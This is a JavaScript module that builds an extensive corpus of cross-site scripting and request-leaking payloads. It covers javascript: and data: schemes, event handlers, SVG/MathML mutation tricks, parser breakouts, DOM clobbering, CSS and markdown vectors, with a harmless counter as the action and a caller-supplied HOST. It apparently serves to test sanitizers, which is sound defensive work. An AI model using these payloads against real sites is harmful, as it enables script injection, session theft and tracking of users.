// Words that would like to be code: the classic ways into a page, in an arrangement of our own. Each calls `RUN` when it
// runs and asks for something at `HOST` when it leaks; both are put in by whoever uses the list.

/** What a payload does when it runs; without quotation marks, so that it fits every attribute. */
export const RUN = 'top.pwned=(top.pwned||0)+1';

const schemes = [
  'javascript:RUN', 'JaVaScRiPt:RUN', ' javascript:RUN', 'java\tscript:RUN', 'java\nscript:RUN', '\u0001javascript:RUN',
  '&#106;avascript:RUN', '&#x6A;avascript&colon;RUN', 'javascript&#58;RUN', 'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==', 'vbscript:RUN', 'blob:RUN', 'about:blank#RUN',
];

/** Elements that load or start something by themselves, with the attribute that says what to do then. */
const handlers = [
  '<img src=x onerror=RUN>', '<img src=x onerror="RUN">', "<img src='x'onerror='RUN'>", '<img/src=x/onerror=RUN>',
  '<IMG SRC=x ONERROR=RUN>', '<image src=x onerror=RUN>', '<img src=x:x onerror=RUN>', '<img srcset=x onerror=RUN>',
  '<svg onload=RUN>', '<svg/onload=RUN>', '<svg><g onload=RUN></g></svg>', '<svg><script>RUN</script></svg>',
  '<svg><script href=data:,RUN />', '<svg><script xlink:href=data:,RUN></script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>', '<svg><set onbegin=RUN attributeName=x></svg>',
  '<svg><a xlink:href=javascript:RUN><rect width=99 height=99 /></a></svg>',
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>', '<svg><style><img src=x onerror=RUN></style></svg>',
  '<svg><title><img src=x onerror=RUN></title></svg>', '<svg><desc><script>RUN</script></desc></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=RUN /></svg>#x">',
  '<math><mi xlink:href=javascript:RUN>x</mi></math>', '<math href=javascript:RUN>x</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
  '<script>RUN</script>', '<SCRIPT>RUN</SCRIPT>', '<script src=data:,RUN></script>', '<script src=HOST/a.js></script>',
  '<script type=module>RUN</script>', '<script>RUN//', '<scr<script>ipt>RUN</scr</script>ipt>', '</script><script>RUN</script>',
  '<script x=">">RUN</script>', '<script\n>RUN</script\n>', '<script/random>RUN</script>', '<script async src=HOST/b.js></script>',
  '<iframe src=javascript:RUN></iframe>', '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>', '<iframe onload=RUN></iframe>', '<iframe src=HOST/frame></iframe>',
  '<object data=javascript:RUN></object>', '<object data="data:text/html,<script>RUN</script>"></object>', '<object onerror=RUN data=x></object>',
  '<embed src=javascript:RUN>', '<embed src="data:text/html,<script>RUN</script>">', '<embed src=HOST/embed>', '<applet code=x archive=HOST/x.jar>',
  '<body onload=RUN>', '<body onpageshow=RUN>', '<body background=javascript:RUN>', '<html manifest=HOST/m>', '<frameset onload=RUN>',
  '<video src=x onerror=RUN></video>', '<video><source onerror=RUN></video>', '<video poster=HOST/poster></video>', '<audio src=x onerror=RUN></audio>',
  '<video autoplay onloadstart=RUN src=x></video>', '<audio autoplay oncanplay=RUN src=HOST/a.ogg></audio>', '<track src=HOST/track default>',
  '<details open ontoggle=RUN>x</details>', '<marquee onstart=RUN>x</marquee>', '<input autofocus onfocus=RUN>', '<select autofocus onfocus=RUN></select>',
  '<textarea autofocus onfocus=RUN></textarea>', '<button autofocus onfocus=RUN>x</button>', '<a tabindex=1 autofocus onfocus=RUN>x</a>',
  '<div style="animation:x 1s" onanimationstart=RUN></div><style>@keyframes x{}</style>', '<div style="transition:all 1s" ontransitionend=RUN></div>',
  '<style onload=RUN></style>', '<link rel=stylesheet href=HOST/c.css onerror=RUN>', '<link rel=stylesheet href="data:text/css,*{background:url(HOST/css)}">',
  '<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>', '<div popover onbeforetoggle=RUN>x</div>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">', '<template><script>RUN</script></template>', '<xmp><img src=x onerror=RUN></xmp>',
  '<plaintext><img src=x onerror=RUN>', '<textarea></textarea><img src=x onerror=RUN>', '<title></title><img src=x onerror=RUN>',
  '<!--><img src=x onerror=RUN>-->', '<!-- --!><img src=x onerror=RUN>', '<![CDATA[><img src=x onerror=RUN>]]>', '<?xml ><img src=x onerror=RUN>',
  '<a title="<img src=x onerror=RUN>">', "<a title='><img src=x onerror=RUN>'>", '"><img src=x onerror=RUN>', "'><img src=x onerror=RUN>",
  '`"\'><img src=x onerror=RUN>', '--><img src=x onerror=RUN>', ']]><img src=x onerror=RUN>', '</style><img src=x onerror=RUN>', '</title><img src=x onerror=RUN>',
  '</textarea><img src=x onerror=RUN>', '</noscript><img src=x onerror=RUN>', '</xmp><img src=x onerror=RUN>', '</template><img src=x onerror=RUN>',
  '<table><td background=HOST/td>', '<p style="background:url(HOST/style)">', '<p style="-webkit-binding:url(HOST/xbl)">', '<p style=list-style:url(HOST/list)>',
  '<input type=image src=HOST/input>', '<input type=image src=x onerror=RUN>', '<isindex type=image src=x onerror=RUN>', '<keygen autofocus onfocus=RUN>',
  '<base href=HOST/>', '<base href=javascript:RUN//>', '<meta http-equiv=refresh content="0;url=HOST/meta">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">', '<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">',
  '<meta http-equiv=Content-Security-Policy content="default-src *">', '<meta http-equiv=Set-Cookie content=a=b>',
  '<form action=HOST/form><button>x</button></form>', '<form><button formaction=javascript:RUN>x</button></form>', '<isindex action=javascript:RUN>',
  '<form id=x></form><button form=x formaction=javascript:RUN>x</button>', '<a href=HOST/click ping=HOST/ping>x</a>', '<area href=javascript:RUN shape=default>',
  '<map name=m><area shape=rect coords=0,0,99,99 href=javascript:RUN></map><img usemap=#m src=x>', '<bgsound src=HOST/bg>', '<layer src=HOST/layer></layer>',
  '<img name=createElement>', '<img name=getElementById>', '<form name=body><input name=firstChild></form>', '<a id=defaultView></a><a id=defaultView name=x></a>',
  '<img id=__proto__>', '<img name=cookie>', '<form id=location href=javascript:RUN></form>', '<output name=attributes></output>',
  '<style>@import "HOST/import";</style>', '<style>@import url(HOST/import2);</style>', '<style>*{background:url(HOST/star)}</style>',
  '<style>@font-face{font-family:x;src:url(HOST/font)}*{font-family:x}</style>', '<style>*{cursor:url(HOST/cursor),auto}</style>',
  '<style>*{content:url(HOST/content)}</style>', '<style>@namespace url(HOST/ns);</style>', '<style>*{mask:url(HOST/mask#x)}</style>',
];

/** Addresses an element would fetch. */
const leaks = [
  '<img src=HOST/img>', '<img srcset="HOST/1 1x, HOST/2 2x">', '<picture><source srcset=HOST/source><img></picture>', '<img loading=eager src=//HOSTNAME/bare>',
  '<img src="HOST/\u0001">', '<img lowsrc=HOST/low>', '<img dynsrc=HOST/dyn>', '<image href=HOST/image>', '<svg><image href=HOST/svg /></svg>',
  '<svg><image xlink:href=HOST/xlink /></svg>', '<svg><use href=HOST/use#x /></svg>', '<svg><feImage href=HOST/fe /></svg>', '<svg style="filter:url(HOST/f#x)">',
  '<svg><style>@import "HOST/svgcss";</style></svg>', '<svg><a href=HOST/a><text>x</text></a></svg>', '<svg><pattern href=HOST/pattern#x /></svg>',
  '<link rel=prefetch href=HOST/prefetch>', '<link rel=preconnect href=HOST>', '<link rel=dns-prefetch href=HOST>', '<link rel=preload as=image href=HOST/preload>',
  '<link rel=modulepreload href=HOST/m.js>', '<link rel=prerender href=HOST/prerender>', '<link rel=icon href=HOST/icon>', '<link rel=manifest href=HOST/manifest>',
  '<link rel=alternate href=HOST/feed>', '<link rel="stylesheet preload" as=style href=HOST/both.css>', '<link rel=import href=HOST/import>', '<link rel=search href=HOST/osd>',
  '<video src=HOST/video autoplay></video>', '<audio src=HOST/audio autoplay></audio>', '<object data=HOST/object></object>', '<portal src=HOST/portal></portal>',
  '<script src=HOST/script></script>', '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["HOST/spec"]}]}</script>',
  '<div style="background-image:image-set(url(HOST/set) 1x)">x</div>', '<div style="border-image:url(HOST/border)">x</div>', '<div style="shape-outside:url(HOST/shape)">x</div>',
  '<div style="background:\\75 rl(HOST/escaped)">x</div>', '<blockquote cite=HOST/cite>x</blockquote>', '<ins cite=HOST/ins>x</ins>', '<q cite=HOST/q>x</q>',
  '<frame src=HOST/frame2>', '<frameset><frame src=HOST/frame3></frameset>', '<iframe src=//HOSTNAME/x></iframe>', '<table background=HOST/table></table>',
];

/** Markdown that would like to be more. */
const markdown = [
  ...schemes.map((scheme) => `[x](${scheme})`), ...schemes.map((scheme) => `![x](${scheme})`), ...schemes.map((scheme) => `<${scheme}>`),
  '![x](HOST/md)', '[x](HOST/md "onmouseover=RUN")', '![x](x "onerror=RUN)', '[x]: HOST/ref\n\n![x]', '[a](<javascript:RUN>)', '[^1]: <img src=x onerror=RUN>\n\nx[^1]',
  '```html\n<script>RUN</script>\n```', '`<img src=x onerror=RUN>`', '| a |\n|---|\n| <img src=x onerror=RUN> |', '- [ ] <svg onload=RUN>', '# <script>RUN</script>',
  '[x](record:00000000-0000-0000-0000-000000000000"onclick=RUN)', '~~<img src=x onerror=RUN>~~', '<div>\n\n**x**<script>RUN</script>\n\n</div>', '&lt;script&gt;RUN&lt;/script&gt;',
];

const attributes = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster', 'srcdoc'];
const carriers = ['a', 'area', 'img', 'iframe', 'form', 'object', 'embed', 'svg', 'use', 'link'];
const combined = carriers.flatMap((element, at) =>
  schemes.map((scheme, index) => `<${element} ${attributes[(at + index) % attributes.length]}="${scheme}">x</${element}>`));
const events = ['click', 'mouseover', 'focus', 'pointerdown', 'contextmenu', 'dragstart', 'paste', 'copy', 'wheel', 'keydown', 'input', 'toggle', 'scroll', 'resize'];
const clicked = events.flatMap((event) => ['div', 'a href=#', 'input', 'svg', 'b tabindex=0'].map((element) => `<${element} on${event}=RUN>x`));

/** Every payload, for what it is to run and where it is to ask. */
export function payloads(host) {
  const name = host.replace(/^[a-z]+:\/\//, '');
  return [...handlers, ...leaks, ...combined, ...clicked, ...markdown]
    .map((line) => line.replaceAll('RUN', RUN).replaceAll('HOSTNAME', name).replaceAll('HOST', host));
}
